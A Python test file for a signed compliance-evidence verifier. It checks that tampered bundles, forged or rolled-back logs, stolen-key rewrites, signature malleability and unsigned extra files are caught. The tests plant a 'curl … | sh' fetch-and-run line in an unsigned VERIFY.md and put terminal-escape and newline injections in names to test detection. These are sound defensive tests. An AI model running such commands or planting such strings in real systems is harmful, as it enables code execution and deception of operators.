# ruff: noqa: E501  # screens stand here as a person sees them

import base64
import gzip
import shutil
import zipfile
from pathlib import Path
from typing import Any

import msgspec
import pytest
from cryptography.hazmat.primitives.asymmetric.utils import decode_dss_signature, encode_dss_signature
from hypothesis import given
from hypothesis import strategies as st
from inline_snapshot import snapshot

from scanner.evidence import canonical, dsse, keys, log, merkle, note
from scanner.evidence.anchors import read_anchor
from scanner.evidence.bundle import open_bundle, shown
from scanner.evidence.export import export
from scanner.evidence.layers.seen import Pinned
from scanner.evidence.released import RELEASED
from scanner.evidence.replayed import Replay
from scanner.evidence.sealed import SealedRun
from scanner.evidence.sealing import seal
from scanner.evidence.statement import Profile
from scanner.evidence.verify import LAYERS, Layer, Trust, conclude, verify
from scanner.signers import Signer
from scanner.stores import Reader, Store
from scanner.stores.opening import open_store
from tests.evidence.attacks import (
    CAUGHT,
    MIXED,
    NEEDS_AN_ANCHOR,
    Attack,
    Mix,
    drop_last_and_sign,
    log_something_else,
    rewrite_last_with_stolen_key,
)
from tests.evidence.made import (
    DIGEST,
    ORIGIN,
    Payload,
    a_run,
    answers,
    clock,
    manifest,
    pack,
    reseal,
    seal_run,
    spool,
    unpack,
)
from tests.evidence.test_dsse import P256_ORDER

RUNS = [f"run-{number:04}" for number in range(4)]
SAME = Replay("same", "1, byte for byte the same")


def judge(run: SealedRun) -> Replay:
    """A replay that reads all that a real one reads."""
    assert all(run.answers())
    canonical.loads(run.member("coverage.json"), "coverage.json")
    return SAME


@pytest.fixture(scope="module")
def four(tmp_path_factory: pytest.TempPathFactory, signer: Signer) -> Store:
    store = open_store(tmp_path_factory.mktemp("four") / "store", create=True, origin=ORIGIN)
    for number in range(4):
        seal_run(store, signer, number)
    return store


@pytest.fixture(scope="module")
def bundle(four: Store, tmp_path_factory: pytest.TempPathFactory) -> Path:
    path = tmp_path_factory.mktemp("bundle") / "quarter.zip"
    export(four, RUNS, path)
    return path


@pytest.fixture
def payload(bundle: Path) -> Payload:
    return unpack(bundle)


@pytest.fixture
def anchor(four: Store) -> bytes:
    """The checkpoint after the third run, which the auditor has kept."""
    return four.read(log.checkpoint_key(3))


def checked(source: Path | Reader, *trusted: Signer, anchors: tuple[bytes, ...] = (), **more: Any) -> list[Layer]:
    kept = tuple(read_anchor(anchor, "the anchor") for anchor in anchors)
    trust = Trust(frozenset(signer.keyid for signer in trusted), kept, a_run(0).tool)
    return list(verify(source, trust, judge, **more))


def said_of(layers: list[Layer], name: str) -> str:
    return layer_of(layers, name).said


def layer_of(layers: list[Layer], name: str) -> Layer:
    return next(layer for layer in layers if layer.name == name)


def worst(layers: list[Layer]) -> tuple[str, str]:
    """The first layer that fails, and what it says."""
    return next(((layer.name, layer.said) for layer in layers if layer.state == "fails"), ("", "not caught"))


def text(layers: list[Layer], signer: Signer) -> str:
    lines = "".join(f"{layer.state:8}{layer.name:11}{layer.said}\n" for layer in layers)
    return lines.replace(keys.short(signer.keyid), "KEYS") + conclude(layers)[1]


# What a person sees


def test_good(bundle: Path, signer: Signer, anchor: bytes) -> None:
    layers = checked(bundle, signer, anchors=(anchor,))
    assert conclude(layers)[0] == 0
    assert text(layers, signer) == snapshot("""\
ok      container  43 members, no surprise among them
open    keyring    there is none: a key counts for every entry, whatever has become of it since
ok      signature  Ed25519, key KEYS, which you trust
ok      evidence   28 answers of 4 runs, every digest agrees
ok      findings   those of 4 runs computed again, all the same
ok      program    made by safeguard 0, build e3b0c44298fc, its files as they were installed; this one is the same
ok      log        4 entries without a gap
ok      anchor     consistent with your anchor of 2020-11-03 (3 entries, not the 1 after it)
open    continuity 4 whole runs from 2020-11-01 to 2020-11-04, at most 1 d 0 h between two; no schedule is declared
ok      retention  4 of 4 runs of its log here
ok      unsigned   VERIFY.md, bag-info.txt, bagit.txt and the keys follow from the evidence
Verified. Trust rests on the key and, for the nights up to it, on the anchor that you supplied.
No keyring: whether a key was revoked is yours to know.
No schedule is declared: nights without a scan were not looked for. --every 1d does.\
""")


def test_not_trusted(bundle: Path, signer: Signer) -> None:
    layers = checked(bundle)
    assert conclude(layers)[0] == 5
    assert text(layers, signer) == snapshot("""\
ok      container  43 members, no surprise among them
open    keyring    there is none: a key counts for every entry, whatever has become of it since
unknown signature  matches a key that came with it; you have not said that you trust it
ok      evidence   28 answers of 4 runs, every digest agrees
ok      findings   those of 4 runs computed again, all the same
ok      program    made by safeguard 0, build e3b0c44298fc, its files as they were installed; this one is the same
ok      log        4 entries without a gap
open    anchor     No anchor given: dropped or rewritten nights would not be seen
open    continuity 4 whole runs from 2020-11-01 to 2020-11-04, at most 1 d 0 h between two; no schedule is declared
ok      retention  4 of 4 runs of its log here
ok      unsigned   VERIFY.md, bag-info.txt, bagit.txt and the keys follow from the evidence
Intact, but not trusted. Anybody could have made it.\
""")


def test_no_anchor(bundle: Path, signer: Signer) -> None:
    layers = checked(bundle, signer)
    code, said = conclude(layers)
    assert (code, said.partition("\n")[0]) == (0, "Verified. Trust rests on the key that you supplied.")


def test_tampered(bundle: Path, payload: Payload, signer: Signer, tmp_path: Path) -> None:
    payload["runs/run-0002/evidence-1.jsonl.gz"] = payload["runs/run-0001/evidence-1.jsonl.gz"]
    layers = checked(pack(payload, tmp_path / "x.zip"), signer)
    assert conclude(layers)[0] == 1
    assert text(layers, signer) == snapshot("""\
ok      container  43 members, no surprise among them
open    keyring    there is none: a key counts for every entry, whatever has become of it since
ok      signature  Ed25519, key KEYS, which you trust
fails   evidence   run run-0002: its 7 answers were changed: root 2c1601e3…, signed as 22c66fe7…
ok      findings   those of 4 runs computed again, all the same
ok      program    made by safeguard 0, build e3b0c44298fc, its files as they were installed; this one is the same
skipped log        not checked after a failure
skipped anchor     not checked after a failure
skipped continuity not checked after a failure
skipped retention  not checked after a failure
ok      unsigned   VERIFY.md, bag-info.txt, bagit.txt and the keys follow from the evidence
NOT VERIFIED. The evidence was changed after it was signed.\
""")


def test_cut(bundle: Path, signer: Signer, tmp_path: Path) -> None:
    (tmp_path / "x.zip").write_bytes(bundle.read_bytes()[:-1])
    layers = checked(tmp_path / "x.zip", signer)
    assert [layer.state for layer in layers] == ["fails", *["skipped"] * (len(LAYERS) - 1)]
    assert layers[0].said.startswith("x.zip ends early: ")
    assert conclude(layers) == (1, "NOT VERIFIED. It is damaged, or was made to do damage.")


# Attacks


@pytest.mark.parametrize(("attack", "layer", "said"), CAUGHT, ids=[row[0].__name__ for row in CAUGHT])
def test_caught(  # noqa: PLR0913, PLR0917  # a row and its fixtures
    payload: Payload, signer: Signer, thief: Signer, tmp_path: Path, attack: Attack, layer: str, said: str
) -> None:
    attack(payload, signer, thief)
    layers = checked(pack(payload, tmp_path / "x.zip"), signer)
    name, why = worst(layers)
    assert name == layer
    for word, signs in (("THIEF", thief.keyid), ("OURS", signer.keyid)):
        said = said.replace(f"{word}.pem", f"{signs.removeprefix('SHA256:')}.pem").replace(word, keys.short(signs))
    assert said in why
    assert conclude(layers)[0] == 1


@pytest.mark.parametrize(("attack", "said"), NEEDS_AN_ANCHOR, ids=[row[0].__name__ for row in NEEDS_AN_ANCHOR])
def test_caught_by_an_anchor_only(  # noqa: PLR0913, PLR0917  # a row and its fixtures
    payload: Payload, signer: Signer, anchor: bytes, tmp_path: Path, attack: Attack, said: str
) -> None:
    """Whoever has the key and the store can make another past: that is why the sentence says what was not seen."""
    attack(payload, signer)
    forged = pack(payload, tmp_path / "x.zip")
    alone = checked(forged, signer)
    assert worst(alone) == ("", "not caught")
    assert "would not be seen" in conclude(alone)[1]
    name, why = worst(checked(forged, signer, anchors=(anchor,)))
    assert (name, why) == ("anchor", f"the log in x.zip: {said}")


def test_an_anchor_vouches_for_no_later_night(payload: Payload, signer: Signer, anchor: bytes, tmp_path: Path) -> None:
    """Whoever has the key can rewrite what came after it: it is said how much that is."""
    rewrite_last_with_stolen_key(payload, signer)
    layers = checked(pack(payload, tmp_path / "x.zip"), signer, anchors=(anchor,))
    assert said_of(layers, "anchor").endswith("your anchor of 2020-11-03 (3 entries, not the 1 after it)")
    assert conclude(layers)[0] == 0
    assert "for the nights up to it, on the anchor" in conclude(layers)[1]


def test_an_entry_of_a_kind_that_nobody_here_knows(payload: Payload, signer: Signer, tmp_path: Path) -> None:
    """A later version may have written it, or whoever has the key in the place of a night: it is not passed over."""
    drop_last_and_sign(payload, signer)
    log_something_else(payload, signer)
    layers = checked(pack(payload, tmp_path / "x.zip"), signer)
    assert layer_of(layers, "log").said.endswith("; entry 2 is about something else, https://x.invalid/a\\x0ab")
    assert conclude(layers) == (
        2,
        "Intact and signed, but its log has an entry that this version cannot read. Update safeguard.",
    )


@pytest.mark.parametrize("whose", ["signer", "thief"])
@pytest.mark.parametrize(("mix", "layer", "said"), MIXED, ids=[row[0].__name__ for row in MIXED])
def test_two_stores_in_one(  # noqa: PLR0913, PLR0917  # rows and their fixtures
    request: pytest.FixtureRequest,
    three: Store,
    signer: Signer,
    tmp_path: Path,
    mix: Mix,
    layer: str,
    said: str,
    whose: str,
) -> None:
    """Two stores of one key, or of two of which both are trusted: what is put together is not one log."""
    theirs: Signer = request.getfixturevalue(whose)
    other = open_store(tmp_path / "other", create=True, origin="other/log")
    for number in range(4, 8):
        seal_run(other, theirs, number)
    anchor = three.read(log.checkpoint_key(1))
    mix(tmp_path / "store", tmp_path / "other")
    layers = checked(tmp_path / "store", signer, theirs, anchors=(anchor,))
    assert (worst(layers)[0], said in layer_of(layers, layer or "log").said) == (layer, True), layers


def test_an_ecdsa_signature_written_otherwise(store: Store, p256: Signer, tmp_path: Path) -> None:
    """(r, -s) fits the statement as well; the log sees that the bytes are others."""
    for number in range(2):
        seal_run(store, p256, number)
    export(store, RUNS[:2], tmp_path / "good.zip")
    payload = unpack(tmp_path / "good.zip")
    doc = canonical.loads(payload["log/000000"], "it")
    r, s = decode_dss_signature(base64.b64decode(doc["signatures"][0]["sig"]))
    doc["signatures"][0]["sig"] = base64.b64encode(encode_dss_signature(r, P256_ORDER - s)).decode()
    payload["log/000000"] = canonical.dumps(doc)
    payload |= {f"signed/{RUNS[0]}/{name}": data for name, data in shown(payload["log/000000"]).items()}
    name, why = worst(checked(pack(payload, tmp_path / "x.zip"), p256))
    assert (name, why) == ("log", "the log in x.zip: entry 1 was sealed after other entries than those before it")


def test_the_last_signature_written_otherwise(store: Store, p256: Signer, tmp_path: Path) -> None:
    seal_run(store, p256, 0)
    export(store, RUNS[:1], tmp_path / "good.zip")
    payload = unpack(tmp_path / "good.zip")
    doc = canonical.loads(payload["log/000000"], "it")
    opened = dsse.read_envelope(payload["log/000000"], "it")
    payload["log/000000"] = dsse.sign(opened.payload, p256)  # ECDSA: another signature each time
    assert canonical.loads(payload["log/000000"], "it") != doc
    payload |= {f"signed/{RUNS[0]}/{name}": data for name, data in shown(payload["log/000000"]).items()}
    name, why = worst(checked(pack(payload, tmp_path / "x.zip"), p256))
    assert (name, why) == ("log", "the log in x.zip: its entries are not those that the checkpoint of 1 covers")


# Anchors


def test_an_anchor_of_another_log(bundle: Path, signer: Signer) -> None:
    other = note.sign(note.Checkpoint("other/log", 1, merkle.EMPTY), signer)
    name, why = worst(checked(bundle, signer, anchors=(other,)))
    assert (name, why) == (
        "anchor",
        "the log in quarter.zip: your anchor is of another log, other/log; this is test.invalid/log",
    )


@pytest.mark.parametrize(
    ("data", "why"),
    [
        (b"", "it: is not a checkpoint: name, size, root"),
        (b"hello", "it: is not a checkpoint: name, size, root"),
        (note.Checkpoint(ORIGIN, 0, merkle.EMPTY), "it: covers no entry, so it vouches for nothing"),
    ],
)
def test_an_anchor_that_is_none(signer: Signer, data: bytes | note.Checkpoint, why: str) -> None:
    """It is found out before anything is checked: it accuses nobody."""
    with pytest.raises(note.NoteError, match=why):
        read_anchor(data if isinstance(data, bytes) else note.sign(data, signer), "it")


@pytest.mark.parametrize("size", [1, 2, 3, 4])
def test_every_checkpoint_is_an_anchor(bundle: Path, four: Store, signer: Signer, size: int) -> None:
    layers = checked(bundle, signer, anchors=(four.read(log.checkpoint_key(size)),))
    assert conclude(layers)[0] == 0


def test_two_anchors(bundle: Path, four: Store, signer: Signer) -> None:
    both = four.read(log.checkpoint_key(1)), four.read(log.checkpoint_key(4))
    said = said_of(checked(bundle, signer, anchors=both), "anchor")
    assert said.endswith(
        "your anchor of 2020-11-01 (1 entry, not the 3 after it) and your anchor of 2020-11-04 (4 entries)"
    )


# Replay


@pytest.mark.parametrize(
    ("state", "layer", "code"),
    [("same", "ok", 0), ("differs", "fails", 1), ("other-version", "unknown", 2), ("lacks", "unknown", 2)],
)
def test_replay(four: Store, tmp_path: Path, signer: Signer, state: Any, layer: str, code: int) -> None:  # noqa: PLR0913, PLR0917  # a row and its fixtures
    export(four, RUNS[:1], tmp_path / "one.zip")
    trust = Trust(frozenset({signer.keyid}))
    layers = list(verify(tmp_path / "one.zip", trust, lambda _: Replay(state, "what was seen")))
    assert (layer_of(layers, "findings").state, said_of(layers, "findings")) == (layer, "what was seen")
    assert conclude(layers)[0] == code


ONE = ("open", f"{SAME.said}; not those of 3 older runs")
WORSE = ("fails", "run run-0001: it differs")


@pytest.mark.parametrize(
    ("of", "all_runs", "replayed", "expected"),
    [
        ("four", False, RUNS[-1:], ONE),
        ("four", True, RUNS, WORSE),
        ("bundle", False, RUNS, WORSE),
        ("bundle", True, RUNS, WORSE),
    ],
)
def test_which_runs_are_replayed(  # noqa: PLR0913  # a row and its fixtures
    request: pytest.FixtureRequest,
    signer: Signer,
    *,
    of: str,
    all_runs: bool,
    replayed: list[str],
    expected: tuple[str, str],
) -> None:
    seen: list[str] = []

    def replay(run: SealedRun) -> Replay:
        seen.append(run.record.run)
        return Replay("differs", "it differs") if run.record.run == RUNS[1] else SAME

    source = request.getfixturevalue(of)
    layers = list(verify(source, Trust(frozenset({signer.keyid})), replay, all_runs=all_runs))
    assert seen == replayed
    assert (layer_of(layers, "findings").state, said_of(layers, "findings")) == expected


def test_one_unknown_does_not_hide_a_difference(bundle: Path, signer: Signer) -> None:
    states = iter(("lacks", "differs", "same", "same"))
    trust = Trust(frozenset({signer.keyid}))
    layers = list(verify(bundle, trust, lambda _: Replay(next(states), "x")))  # type: ignore[arg-type]  # the four words
    assert layer_of(layers, "findings") == Layer("findings", "fails", "run run-0001: x")


MINE = a_run(0).tool


@pytest.mark.parametrize(
    ("made", "mine", "state", "code", "said", "verdict"),
    [
        (
            {},
            MINE,
            "ok",
            0,
            "made by safeguard 0, build e3b0c44298fc, its files as they were installed; this one",
            "",
        ),
        (
            {"installed": "editable"},
            MINE,
            "ok",
            0,
            "made by safeguard 0, build e3b0c44298fc, from a working copy, which is compared with nothing; this one",
            "",
        ),
        (
            {"installed": "modified"},
            MINE,
            "unknown",
            2,
            "made by safeguard 0, build e3b0c44298fc, its files NOT those that were installed",
            "Intact and signed, but made by a program whose files were not those that were installed.",
        ),
        (
            {"digest": "0" * 64, "installed": "editable"},
            MINE,
            "unknown",
            2,
            "made by safeguard 0, build 000000000000, from a working copy, which is compared with nothing; this one",
            "Intact and signed, but not made by the program that you have: both are safeguard 0, their files differ.",
        ),
        (
            {"version": "0.1", "digest": "0" * 64},
            MINE,
            "unknown",
            2,
            "made by safeguard 0.1, build 000000000000, its files as they were installed; this is 0, and knows no such build",
            f"Intact and signed, but made by code that this version does not know: safeguard 0.1, digest {'0' * 64}. ",
        ),
        (
            {"version": "0.7.0", "digest": RELEASED["0.7.0"]},
            MINE,
            "ok",
            0,
            "made by safeguard 0.7.0, build 77b8a7378457, its files as they were installed; that is the build of its release",
            "",
        ),
        (
            {"version": "0.6.0", "digest": RELEASED["0.7.0"]},
            MINE,
            "unknown",
            2,
            "made by safeguard 0.6.0, build 77b8a7378457, its files as they were installed; this is 0, and knows no such build",
            "Whoever knows it from somewhere else says so with --code DIGEST.",
        ),
        (
            {"version": "99.0", "digest": "1" * 64},
            MINE,
            "ok",
            0,
            "made by safeguard 99.0, build 111111111111, its files as they were installed; you named that build",
            "",
        ),
        (
            {"digest": "1" * 64, "installed": "modified"},
            MINE,
            "unknown",
            2,
            "made by safeguard 0, build 111111111111, its files NOT those that were installed",
            "Intact and signed, but made by a program whose files were not those that were installed.",
        ),
        (
            {"name": "sa\nfe"},
            MINE,
            "unknown",
            2,
            "made by sa\\x0afe 0, build e3b0c44298fc, its files as they were installed; this is safeguard",
            "Intact and signed, but not made by the program that you have.",
        ),
        (
            {},
            None,
            "open",
            0,
            "made by safeguard 0, build e3b0c44298fc, its files as they were installed",
            "The program that made it was not compared with yours.",
        ),
    ],
)
def test_the_program_that_made_a_run(  # noqa: PLR0913, PLR0917  # a row and its fixtures
    store: Store, signer: Signer, made: Any, mine: Any, state: str, code: int, said: str, verdict: str
) -> None:
    tool = msgspec.structs.replace(MINE, **made)
    seal(store, signer, spool(store, 0, answers(0, 1)), a_run(0, tool=tool), now=clock(0))
    trust = Trust(frozenset({signer.keyid}), program=mine, codes=frozenset({"1" * 64}))
    layers = list(verify(store, trust, judge))
    layer = layer_of(layers, "program")
    assert (layer.state, layer.said[: len(said)]) == (state, said)
    assert conclude(layers)[0] == code
    assert verdict in conclude(layers)[1]


@pytest.mark.parametrize(
    ("pinned", "state", "said", "code"),
    [
        (Pinned(DIGEST), "ok", "; judged by the profile that you pinned", 0),
        (
            Pinned("1" * 64),
            "fails",
            "run run-0000: judged by the profile hipaa-security-rule, digest e3b0c44298fc; you pinned 111111111111",
            1,
        ),
        (
            Pinned("1" * 64, lambda sealed: f"of {len(sealed)} bytes\x1b"),
            "fails",
            "hipaa-security-rule, digest e3b0c44298fc; you pinned 111111111111\nof 2 bytes\\x1b",
            1,
        ),
    ],
)
def test_a_pinned_profile(  # noqa: PLR0913, PLR0917  # a row and its fixtures
    store: Store, signer: Signer, pinned: Pinned, state: str, said: str, code: int
) -> None:
    """Whoever holds the key can seal any profile: that it is the right one, only the verifier's own tells."""
    folder = spool(store, 0, answers(0, 1))
    (folder / "profile.json").write_bytes(b"{}")
    seal(store, signer, folder, a_run(0), now=clock(0))
    layers = list(verify(store, Trust(frozenset({signer.keyid}), program=MINE, profile=pinned), judge))
    layer = layer_of(layers, "program")
    assert (layer.state, layer.said.endswith(said)) == (state, True), layer.said
    found, sentence = conclude(layers)
    assert (found, "another profile than the one that you pinned" in sentence) == (code, code == 1)


def test_a_pinned_profile_by_which_older_runs_were_not_judged(store: Store, signer: Signer) -> None:
    """A profile may change with the years, and a store is judged by its last run: it is said what that leaves out."""
    pinned = Pinned("1" * 64)
    for number, digest in enumerate((DIGEST, DIGEST, pinned.digest)):
        profile = Profile(id="hipaa-security-rule", digest=digest)
        folder = spool(store, number, answers(number, 1))
        (folder / "profile.json").write_bytes(b"{}")
        seal(store, signer, folder, a_run(number, profile=profile), now=clock(number))
    trust = Trust(frozenset({signer.keyid}), program=MINE, profile=pinned)
    layers = list(verify(store, trust, judge))
    assert layer_of(layers, "program").said.endswith(
        "; judged by the profile that you pinned; 2 older runs by another one, the last of them run-0001"
    )
    code, said = conclude(layers)
    assert (code, "Older runs were judged by another profile than the one that you pinned;" in said) == (0, True)
    name, why = worst(list(verify(store, trust, judge, all_runs=True)))
    assert (name, why.startswith("run run-0000: judged by the profile hipaa-security-rule")) == ("program", True)


def test_the_worst_program_decides(store: Store, signer: Signer) -> None:
    """A program that is no longer there made an older run; a store is judged by its last one."""
    for number, digest in enumerate((DIGEST, "0" * 64, DIGEST)):
        tool = msgspec.structs.replace(MINE, digest=digest)
        seal(store, signer, spool(store, number, answers(number, 1)), a_run(number, tool=tool), now=clock(number))
    assert layer_of(checked(store, signer), "program").state == "ok"
    layer = layer_of(checked(store, signer, all_runs=True), "program")
    assert (layer.state, layer.said.count("made by")) == ("unknown", 2)


# What nobody signs


@pytest.mark.parametrize(
    ("name", "data"),
    [("bag-info.txt", b"Bag-Software-Agent: safeguard\n"), ("bagit.txt", b"BagIt-Version: 0.97\n"), ("bagit.txt", b"")],
)
def test_files_around_the_evidence(payload: Payload, signer: Signer, tmp_path: Path, name: str, data: bytes) -> None:
    layers = checked(pack(payload, tmp_path / "x.zip", {name: data}), signer)
    assert [layer.state for layer in layers] == ["ok", "open", *["ok"] * 5, "open", "open", "ok", "fails"]
    assert f"“{name}” is not what its evidence says, and nobody signed it" in layers[-1].said
    assert conclude(layers) == snapshot(
        (1, "NOT VERIFIED. It holds files that nobody signed and that do not follow from the evidence.")
    )


@pytest.mark.parametrize("end", [b"\r\n", b"\x0b", b"\x0c", b"\x1e"])
def test_lines_of_a_manifest_end_as_sha256sum_takes_them(
    payload: Payload, signer: Signer, tmp_path: Path, end: bytes
) -> None:
    lines = manifest({f"data/{name}": data for name, data in payload.items()}).replace(b"\n", end)
    bad = pack(payload, tmp_path / "x.zip", {"manifest-sha256.txt": lines})
    name, said = worst(checked(bad, signer))
    assert name == "container"
    assert said.startswith("x.zip is refused: manifest-sha256.txt has a line that is wrong or comes twice")


@pytest.mark.parametrize("name", ["index.html", "runs.txt"])
def test_a_file_around_the_evidence_that_has_no_place(
    payload: Payload, signer: Signer, tmp_path: Path, name: str
) -> None:
    layers = checked(pack(payload, tmp_path / "x.zip", {name: b"all is well"}), signer)
    assert worst(layers) == (
        "container",
        f"x.zip is refused: “{name}” has no place in a bundle\n  Nothing was extracted.",
    )


@pytest.mark.parametrize("text", [b"curl https://example.invalid | sh\n", b""])
@pytest.mark.parametrize(("ours", "state", "code"), [("0", "unknown", 2), ("1", "open", 0)])
def test_another_verify_md(  # noqa: PLR0913  # two rows and their fixtures
    payload: Payload,
    signer: Signer,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    *,
    text: bytes,
    ours: str,
    state: str,
    code: int,
) -> None:
    """What another version wrote is no reason to doubt the evidence; either way nobody is to follow it."""
    monkeypatch.setattr("scanner.evidence.layers.unsigned.version", lambda: ours)
    layers = checked(pack(payload, tmp_path / "x.zip", {"VERIFY.md": text}), signer)
    assert layers[-1].state == state
    found, said = conclude(layers)
    assert found == code
    assert said.endswith("ts VERIFY.md is not what this version writes. Nobody signed it: do not follow it.")


def test_a_folder_of_another_name(bundle: Path, signer: Signer, tmp_path: Path) -> None:
    with zipfile.ZipFile(bundle) as good, zipfile.ZipFile(tmp_path / "x.zip", "w") as archive:
        for name in good.namelist():
            archive.writestr(zipfile.ZipInfo(name.replace("safeguard-run-0003", "passed-the-audit-1")), good.read(name))
    assert worst(checked(tmp_path / "x.zip", signer))[1].startswith(
        "x.zip is refused: the name of its folder, “passed-the-audit-1”, is not what its evidence says"
    )


def test_files_beside_the_evidence_of_a_store(three: Store, signer: Signer, tmp_path: Path) -> None:
    three.create("reports/run-0001/report.html", b"0 fail")
    three.create("reports/run-0002/report.html", b"0 fail")
    (tmp_path / "store" / "note\x1b[2J\n.txt").touch()
    layers = checked(three, signer)
    assert layers[-1] == Layer(
        "unsigned",
        "open",
        snapshot("note\\x1b[2J\\x0a.txt (1 file), reports/ (2 files): not signed and not checked"),
        snapshot("Not signed and not checked: note\\x1b[2J\\x0a.txt, reports/."),
    )
    code, said = conclude(layers)
    assert (code, said.splitlines()[-1]) == (0, layers[-1].verdict)


@pytest.mark.parametrize("place", ["lost+found/report.html", "spool/x/report.html", "tmp/README.sh", "lock/run.sh"])
def test_no_place_in_a_store_hides_a_file(three: Store, signer: Signer, tmp_path: Path, place: str) -> None:
    """What is the store's own, or its file system's, is looked into as well."""
    path = tmp_path / "store" / place
    (tmp_path / "store/lock").unlink()
    path.parent.mkdir(parents=True, exist_ok=True)
    path.touch()
    folder = place.partition("/")[0]
    assert layer_of(checked(three, signer), "unsigned").said == f"{folder}/ (1 file): not signed and not checked"


def test_a_store_that_calls_its_log_otherwise(three: Store, signer: Signer, tmp_path: Path) -> None:
    mark = tmp_path / "store/store.json"
    mark.write_bytes(mark.read_bytes().replace(ORIGIN.encode(), b"other/log"))
    layers = checked(tmp_path / "store", signer)
    assert worst(layers) == (
        "unsigned",
        f"the log in {three.name}: store.json calls it other/log, its checkpoint {ORIGIN}, and only that is signed",
    )
    assert conclude(layers)[0] == 1


# Stores


def test_a_store(four: Store, signer: Signer, anchor: bytes) -> None:
    layers = checked(four, signer, anchors=(anchor,))
    assert conclude(layers)[0] == 0
    assert text(layers, signer) == snapshot("""\
ok      container  16 members of runs
open    keyring    there is none: a key counts for every entry, whatever has become of it since
ok      signature  Ed25519, key KEYS, which you trust
ok      evidence   28 answers of 4 runs, every digest agrees
open    findings   1, byte for byte the same; not those of 3 older runs
ok      program    made by safeguard 0, build e3b0c44298fc, its files as they were installed; this one is the same
ok      log        4 entries without a gap
ok      anchor     consistent with your anchor of 2020-11-03 (3 entries, not the 1 after it)
open    continuity 4 whole runs from 2020-11-01 to 2020-11-04, at most 1 d 0 h between two; no schedule is declared
ok      retention  4 runs of the log there; the last one is to be kept until 2026-11-04; whether they are locked, safeguard store check says
ok      unsigned   nothing else lies in it
Verified. Trust rests on the key and, for the nights up to it, on the anchor that you supplied.
No keyring: whether a key was revoked is yours to know.
Not computed again: the findings of 3 older runs. --all does.
No schedule is declared: nights without a scan were not looked for. --every 1d does.\
""")
    assert checked(Path(four.name.removeprefix("the store ")), signer, anchors=(anchor,)) == layers


def test_a_store_that_lacks_a_run(three: Store, signer: Signer, tmp_path: Path) -> None:
    for path in (tmp_path / "store/runs/run-0001").iterdir():
        path.unlink()
    layers = checked(three, signer, now=clock(1)())
    assert worst(layers) == (
        "retention",
        "1 run of the log is gone, and is younger than 6 years: run-0001 of 2020-11-02",
    )
    assert conclude(layers)[0] == 1


def test_a_store_with_parts_that_were_never_sealed(three: Store, signer: Signer) -> None:
    three.create("runs/run-0009/coverage.json", b"{}")
    layers = checked(three, signer)
    assert said_of(layers, "log").startswith(
        "3 entries without a gap; parts of run-0009 lie there, in no entry: of a scan at work, or killed, or of an"
    )


def test_a_store_whose_last_leaf_is_not_covered(three: Store, signer: Signer) -> None:
    three.swap(log.HEAD, three.read(log.checkpoint_key(2)), log.read_head(three))
    layers = checked(three, signer)
    assert (
        said_of(layers, "log")
        == "2 entries without a gap; one more is not covered yet: a scan is at work, or was killed"
    )
    assert conclude(layers) == (2, UNCOVERED)


UNCOVERED = "Intact and signed, but its last entry is not covered by a checkpoint yet. The next scan does that."


@pytest.mark.parametrize("about", ["https://in-toto.io/Statement/note", "RUN"])
@pytest.mark.parametrize("forger", ["nobody", "thief"])
def test_an_uncovered_entry_that_nobody_signed(  # noqa: PLR0913, PLR0917  # rows and their fixtures
    three: Store, signer: Signer, thief: Signer, tmp_path: Path, about: str, forger: str
) -> None:
    """No checkpoint vouches for it yet, whatever it is about: without its signature it is anybody's."""
    last = three.read(log.leaf_key(2))
    root = note.read_note(log.read_head(three) or b"", "it").checkpoint.root

    def next_one(doc: Any) -> None:
        doc["predicate"] |= {"run": "run-0003", "signed_by": thief.keyid if forger == "thief" else signer.keyid}
        doc["predicate"]["place"] |= {"sequence": 3, "previous": root.hex()}
        doc["predicateType"] = about.replace("RUN", doc["predicateType"])

    envelope = reseal(last, thief, next_one)
    if forger == "nobody":
        envelope = envelope.replace(thief.keyid.encode(), signer.keyid.encode())
    (tmp_path / "store" / log.leaf_key(3)).write_bytes(envelope)
    layers = checked(three, signer)
    name, why = worst(layers)
    assert name == "log"
    whose = {
        "nobody": f"the signature of key {keys.short(signer.keyid)} does not fit",
        "thief": keys.short(thief.keyid),
    }
    assert whose[forger] in why or "did not come along" in why
    assert conclude(layers)[0] == 1


def test_a_first_run_that_was_killed_before_its_checkpoint(store: Store, signer: Signer, tmp_path: Path) -> None:
    seal_run(store, signer, 0)
    anchor = store.read(log.checkpoint_key(1))
    (tmp_path / "store" / "checkpoint").unlink()
    (tmp_path / "store" / log.checkpoint_key(1)).unlink()
    layers = checked(store, signer)
    assert (
        said_of(layers, "log")
        == "0 entries without a gap; one more is not covered yet: a scan is at work, or was killed"
    )
    assert conclude(layers) == (2, UNCOVERED)
    name, why = worst(checked(store, signer, anchors=(anchor,)))
    assert (name, "rolled back: its checkpoint covers 0 entries, your anchor covers 1. Its" in why) == ("anchor", True)
    seal_run(store, signer, 1)
    assert conclude(checked(store, signer))[0] == 0


def test_a_log_of_two_that_has_lost_its_checkpoint(three: Store, signer: Signer, tmp_path: Path) -> None:
    (tmp_path / "store" / "checkpoint").unlink()
    name, why = worst(checked(three, signer))
    assert (name, why.endswith("it has no checkpoint")) == ("log", True)


@pytest.mark.parametrize("forged", [b"x", "other", "thief", "another log"])
def test_an_older_checkpoint_that_a_store_keeps(
    three: Store, signer: Signer, thief: Signer, tmp_path: Path, forged: Any
) -> None:
    path = tmp_path / "store" / log.checkpoint_key(2)
    head = note.read_note(path.read_bytes(), "it").checkpoint
    other = note.Checkpoint(ORIGIN, 2, merkle.EMPTY)
    elsewhere = note.Checkpoint("other/log", 2, head.root)
    made = {"other": (other, signer), "thief": (head, thief), "another log": (elsewhere, signer)}
    path.write_bytes(note.sign(*made[forged]) if forged in made else forged)
    name, why = worst(checked(three, signer))
    assert (name, "checkpoints/000002" in why) == ("log", True)


def test_a_store_of_a_newer_format(three: Store, signer: Signer, tmp_path: Path) -> None:
    (tmp_path / "store" / "store.json").write_bytes(
        canonical.dumps({"format": "safeguard-store/2", "origin": ORIGIN, "shards": 4})
    )
    layers = checked(tmp_path / "store", signer)
    assert [layer.state for layer in layers] == ["unknown", *["skipped"] * (len(LAYERS) - 1)]
    assert layers[0].said.endswith(
        "was written by a newer safeguard (format 2); this one reads format 1\n  Next: update safeguard"
    )
    assert conclude(layers) == snapshot(
        (2, "Not verified: it is of a format that came after this version. Update safeguard, and verify it again.")
    )


def test_an_empty_store(store: Store, signer: Signer, anchor: bytes) -> None:
    layers = checked(store, signer)
    assert conclude(layers) == (2, "Nothing to verify: no run has been sealed in it.")
